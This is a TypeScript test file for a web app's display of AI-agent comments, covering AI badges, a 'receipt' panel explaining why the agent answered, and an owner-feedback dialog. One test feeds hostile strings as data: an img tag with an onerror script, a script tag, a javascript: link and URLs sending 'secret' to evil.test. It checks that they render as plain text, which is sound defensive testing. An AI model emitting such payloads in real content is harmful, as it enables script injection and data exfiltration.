import type { Comment } from '@guildhall/contract/comments'
import { buildAgentCard, buildReceipt, buildReceiptSource } from '@guildhall/contract/testing/agents'
import { buildComment } from '@guildhall/contract/testing/comments'
import { idOf } from '@guildhall/contract/testing/ids'
import { buildUser } from '@guildhall/contract/testing/members'
import { buildMention } from '@guildhall/contract/testing/mentions'
import { buildPost } from '@guildhall/contract/testing/posts'
import { buildPreferences } from '@guildhall/contract/testing/preferences'
import { act, fireEvent, screen, waitFor, within } from '@testing-library/react'
import { beforeEach, describe, expect, it, vi } from 'vitest'
import { openApp } from '#web/testing/app.tsx'
import { serveComments } from '#web/testing/comments.ts'
import { servePosts } from '#web/testing/posts.ts'
import { testServer } from '#web/testing/server.ts'
import { setOpenPart } from './open-parts.ts'

const server = testServer()
const agent = buildAgentCard(1, { firstName: 'Agent AI', username: 'agent_ai' })
const byAgent = { author: agent, authorId: agent.id, isSystemComment: true, systemAgentType: 'agent_ai' }
const RECEIPT = `GET /api/comments/${idOf(12)}/ai-receipt`
const FEEDBACK = `PUT /api/comments/${idOf(12)}/ai-feedback`
const element = (id: number) => document.querySelector<HTMLElement>(`[data-comment="${idOf(id)}"]`)!
const item = (id: number) => within(element(id))
const receiptButton = () => screen.getByRole('button', { name: 'Receipt for Agent AI’s comment' })
const receipt = () => screen.findByRole('region', { name: 'How this answer came about' })
const factsOf = (card: HTMLElement) => {
  const [names, facts] = ['dt', 'dd'].map((tag) =>
    [...card.querySelectorAll(tag)].map((part) => part.textContent),
  )
  return Object.fromEntries(names!.map((name, at) => [name, facts![at]]))
}

beforeEach(() => {
  vi.spyOn(console, 'error').mockImplementation(() => {})
  server.on('GET /api/auth/user', { json: buildUser() })
  server.on('GET /api/user/preferences', { json: buildPreferences() })
  server.on('GET /api/posts?sort=viral&limit=5', { json: [] })
  setOpenPart('receipt', idOf(12), false)
})

async function openPost(...comments: Comment[]) {
  servePosts(server, [buildPost(1, { _count: { comments: comments.length, shares: 0, views: 0 } })])
  serveComments(server, comments)
  const app = await openApp(`/post/${idOf(1)}`)
  await waitFor(() => expect(document.querySelectorAll('li[data-comment]')).toHaveLength(comments.length))
  return app
}

async function openReceipt() {
  fireEvent.click(receiptButton())
  return receipt()
}

describe('a comment by an AI', () => {
  it('[S1-065] [S1-170] [S1-171] has its badge, tint, square picture and receipt, and a name that is no link', async () => {
    await openPost(
      buildComment(11),
      buildComment(12, { author: agent, authorId: agent.id }),
      buildComment(13, { author: null, authorId: null, isSystemComment: true, systemAgentType: 'agent_ai' }),
      buildComment(14, { author: null, authorId: null, isSystemComment: true, systemAgentType: 'prom_ai' }),
      buildComment(15, { author: null, authorId: 'system-helper' }),
    )
    for (const [id, name] of [
      [12, 'Agent AI'],
      [13, 'Agent AI'],
      [14, 'Prom AI'],
      [15, 'Agent AI'],
    ] as const) {
      expect(item(id).getByText(name).closest('a')).toBeNull()
      expect(item(id).getByText('AI')).toBeTruthy()
      expect(element(id).querySelector('.comment-by-ai > .rounded-card\\!')).toBeTruthy()
      expect(item(id).getByRole('button', { name: `Receipt for ${name}’s comment` })).toBeTruthy()
    }
    expect(element(11).querySelector('.comment-by-ai, .rounded-card\\!')).toBeNull()
    expect(item(11).queryByText('AI')).toBeNull()
    expect(item(11).queryByRole('button', { name: /^Receipt/ })).toBeNull()
  })

  it('is text and nothing else, whatever the model wrote', async () => {
    const content = [
      '<img src="https://evil.test/?q=secret" onerror="alert(1)"> <script>alert(1)</script>',
      '![x](https://evil.test/x.png) [here](javascript:alert(1)) https://evil.test/?q=secret www.evil.test',
      '@mara_okafor, @makers and @agent_ai',
    ].join('\n')
    const mentions = [
      buildMention({
        start: content.indexOf('@mara'),
        end: content.indexOf('@mara') + 12,
        handle: 'mara_okafor',
      }),
    ]
    await openPost(buildComment(12, { ...byAgent, content, mentions }))
    const bubble = element(12).querySelector('.comment-bubble p')!
    expect(bubble.textContent).toBe(content)
    expect(bubble.children, 'no link, no mention, no picture').toHaveLength(0)
    expect(
      server.seen.filter(({ path }) => /ai-runs|preview/.test(path)),
      'nothing is looked up',
    ).toEqual([])
  })
})

describe('the receipt of an AI comment', () => {
  it('[D-138] says which rule applied, what was read, which model, how long, and who runs it', async () => {
    const sources = [
      buildReceiptSource(1, { type: 'post', excerpt: 'Which paper lasts longest?' }),
      buildReceiptSource(11, { author: null, excerpt: 'Cotton, if it stays dry.' }),
    ]
    server.on(RECEIPT, {
      json: buildReceipt({ agent, sources, hiddenSources: 1, isDemo: true, model: 'demo-model' }),
    })
    await openPost(buildComment(12, byAgent))
    expect(
      server.seen.some(({ path }) => path.endsWith('/ai-receipt')),
      'only on request',
    ).toBe(false)
    receiptButton().focus()
    const card = await openReceipt()
    await within(card).findByText('Cotton, if it stays dry.')
    expect(receiptButton().getAttribute('aria-expanded')).toBe('true')
    expect(receiptButton().getAttribute('aria-controls')).toBe(card.id)
    expect(document.activeElement, 'the focus stays').toBe(receiptButton())
    expect(factsOf(card)).toEqual({
      Rule: 'Mentioned by Person Number 1',
      Read: 'Person Number 1’s postWhich paper lasts longest?A commentCotton, if it stays dry.1 source you can’t view',
      Model: 'demo-modelDemo model',
      Took: '1.2 s',
      'Run by': 'The Guildhall team',
    })
    expect(
      within(card)
        .getAllByRole('link')
        .map((link) => link.getAttribute('href')),
    ).toEqual([`/post/${idOf(1)}`, `/post/${idOf(1)}?thread=${idOf(11)}`])
  })

  it('[D-138] only counts what the reader cannot view, and names the owner', async () => {
    server.on(RECEIPT, {
      json: buildReceipt({
        agent,
        sources: [],
        hiddenSources: 3,
        askedBy: null,
        owner: buildUser(),
        model: 'small-2',
      }),
    })
    await openPost(buildComment(12, byAgent))
    const card = await openReceipt()
    await within(card).findByText('3 sources you can’t view')
    expect(factsOf(card)).toMatchObject({
      Rule: 'Mentioned by someone you can’t view',
      Model: 'small-2',
      'Run by': 'Mara Okafor',
    })
    expect(within(card).queryByRole('link')).toBeNull()
  })

  it.each([
    ['question', 'Answered a question that no one had answered for a while'],
    ['first_post', 'Greeted a member’s first post in the group'],
    ['review', 'Reviewed what members wrote in the group'],
    ['weekly_digest', 'Summed up the group’s week'],
    ['trending_topic', 'Picked up a topic that many members wrote about'],
    ['welcome', 'Welcomed the group’s new members'],
    ['quiet_group', 'Started a conversation because the group was quiet'],
    ['newer_than_this_page' as never, 'Followed one of its rules'],
  ] as const)('[D-138] of an agent of a group names the rule %s', async (trigger, rule) => {
    server.on(RECEIPT, { json: buildReceipt({ agent, trigger, isOfGroup: true, askedBy: null }) })
    await openPost(buildComment(12, byAgent))
    const card = await openReceipt()
    await within(card).findByText(rule)
    expect(factsOf(card), 'without an owner whom the reader can view').toMatchObject({
      Rule: rule,
      'Run by': 'The group’s admins',
    })
  })

  it('closes by Escape, its button and its cross, and the focus is on its button', async () => {
    server.on(RECEIPT, { json: buildReceipt({ agent }) })
    await openPost(buildComment(12, byAgent))
    const isClosed = async () => {
      await waitFor(() => expect(receiptButton().getAttribute('aria-expanded')).toBe('false'))
      await waitFor(() => expect(document.activeElement).toBe(receiptButton()))
      expect(screen.queryByRole('region', { name: 'How this answer came about' })).toBeNull()
    }
    receiptButton().focus()
    await openReceipt()
    fireEvent.keyDown(receiptButton(), { key: 'Escape' })
    await isClosed()
    let card = await openReceipt()
    const link = (await within(card).findAllByRole('link'))[0]!
    act(() => link.focus())
    fireEvent.keyDown(link, { key: 'Escape' })
    await isClosed()
    card = await openReceipt()
    fireEvent.click(within(card).getByRole('button', { name: 'Close receipt' }))
    await isClosed()
  })

  it('can be missing, and can fail and be loaded again', async () => {
    server.on(RECEIPT, { status: 403, json: { message: 'No', code: 'forbidden' } })
    await openPost(buildComment(12, byAgent))
    expect(within(await openReceipt()).getByText('Loading…')).toBeTruthy()
    const alert = within(await screen.findByRole('alert'))
    expect(alert.getByText('Couldn’t load the receipt.')).toBeTruthy()
    server.on(RECEIPT, { status: 404, json: { message: 'No', code: 'not_found' } })
    fireEvent.click(alert.getByRole('button', { name: 'Try again' }))
    expect(await screen.findByText('There’s no receipt for this comment.')).toBeTruthy()
  })

  it('takes a note for those who run the agent, once', async () => {
    server.on(RECEIPT, { json: buildReceipt({ agent }) })
    server.on(FEEDBACK, { status: 500 })
    await openPost(buildComment(12, byAgent))
    const card = await openReceipt()
    fireEvent.click(await within(card).findByRole('button', { name: 'Wrong? Tell the owner' }))
    const dialog = within(await screen.findByRole('dialog', { name: 'What’s wrong with Agent AI’s answer?' }))
    const note = dialog.getByRole('textbox', { name: 'Your note (optional)' })
    fireEvent.change(note, { target: { value: 'x'.repeat(501) } })
    fireEvent.click(dialog.getByRole('button', { name: 'Send' }))
    expect(
      server.seen.some(({ path }) => path.endsWith('/ai-feedback')),
      'too long',
    ).toBe(false)
    fireEvent.change(note, { target: { value: ' Cotton yellows. ' } })
    fireEvent.click(dialog.getByRole('button', { name: 'Send' }))
    expect(await screen.findByText('Couldn’t send your note. Please try again.')).toBeTruthy()
    server.on(FEEDBACK, { status: 204 })
    fireEvent.click(dialog.getByRole('button', { name: 'Send' }))
    expect(await screen.findByText('Thanks. The people who run it will see this.')).toBeTruthy()
    await waitFor(() => expect(screen.queryByRole('dialog')).toBeNull())
    const sent = server.seen.filter(({ path }) => path.endsWith('/ai-feedback')).map(({ body }) => body)
    expect(sent.at(-1)).toBe('{"note":"Cotton yellows."}')
    expect(within(card).getByText('You’ve notified the owner.')).toBeTruthy()
    expect(within(card).queryByRole('button', { name: /Wrong/ })).toBeNull()
  })
})
